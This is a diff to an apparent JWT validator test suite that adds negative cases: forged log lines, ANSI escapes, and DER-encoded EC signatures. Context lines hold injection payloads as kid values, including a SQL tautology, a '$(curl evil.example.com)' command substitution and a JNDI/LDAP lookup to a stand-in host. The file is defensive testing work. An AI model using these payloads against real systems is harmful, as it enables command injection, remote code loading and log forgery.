@@ -201,6 +201,8 @@ for _label, _kid in {
     "SQL-like": "rsa-1' OR '1'='1",
     "shell-like": "$(curl evil.example.com)",
     "template-like": "{{7*7}}${jndi:ldap://evil.example.com/a}",
+    "a forged log line": 'x"}\n{"level":"INFO","message":"token allowed","sub":"admin"}\r\n',
+    "with ANSI escapes": "\x1b[2J\x1b[31mrsa-1",
 }.items():
     _case(f"kid {_label}", lambda f, k=_kid: f.signed(header=f.header(kid=k)))
 
@@ -319,7 +321,7 @@ _case("exp a nested list", lambda f: _with_raw_claim(f, "exp", _nested(100)))
 _case("a token over the size limit", lambda f: f.valid(padding="x" * 12_000))
 _case("a token far over the size limit", lambda f: f.valid(padding="x" * 1_000_000))
 
-# NumericDates -----------------------------------------------------------------------------------------
+# NumericDates (the handler runs on the real clock: margins far beyond the 30 s leeway) -------------------
 for _claim in ("exp", "nbf", "iat"):
     for _label, _value in {
         "a string": "9999999999",
@@ -338,11 +340,11 @@ _case("another claim -1e400", lambda f: _with_raw_claim(f, "ratio", "-1e400"))
 _case("exp -0.0", lambda f: _with_raw_claim(f, "exp", "-0.0"))
 _case("exp with 4,000 digits", lambda f: _with_raw_claim(f, "exp", "9" * 4_000))
 _case("exp with 5,000 digits", lambda f: _with_raw_claim(f, "exp", "9" * 5_000))
-_case("exp in the past", lambda f: f.valid(exp=f.now - 31))
+_case("exp in the past", lambda f: f.valid(exp=f.now - 120))
 _case("exp missing", lambda f: f.valid(exp=REMOVE))
 _case("exp zero", lambda f: f.valid(exp=0))
-_case("nbf in the future beyond the leeway", lambda f: f.valid(nbf=f.now + 31))
-_case("iat in the future beyond the leeway", lambda f: f.valid(iat=f.now + 31))
+_case("nbf in the future beyond the leeway", lambda f: f.valid(nbf=f.now + 120))
+_case("iat in the future beyond the leeway", lambda f: f.valid(iat=f.now + 120))
 
 # iss, aud, sub ---------------------------------------------------------------------------------------
 _case("iss wrong", lambda f: f.valid(iss="https://evil.example.com/issuer"))
@@ -402,7 +404,20 @@ _case(
     "signed by the attacker under the real kid",
     lambda f: f.signed(key=SigningKey("rsa-1", f.attacker.private_key, "RS256")),
 )
+
+
+def _der_ec_signature(f: Forge) -> str:
+    """ES256 as cryptography produces it (DER), which JWS does not use: only raw r||s is a JWS signature."""
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    signing_input = f"{b64url_json(f.header(f.ec))}.{b64url_json(f.claims())}"
+    signature = f.ec.private_key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256()))
+    return f"{signing_input}.{b64url(signature)}"
+
+
+_case("EC signature in DER instead of raw r||s", _der_ec_signature)
 _case("EC signature of the wrong length", lambda f: f.signed(header=f.header(f.ec), key=f.ec)[:-4])
+
 
 # Scheme variants (lowercase `bearer` is fine and is a positive control elsewhere) ----------------------
 _raw_case("Token scheme", lambda f: f"Token {f.valid()}")
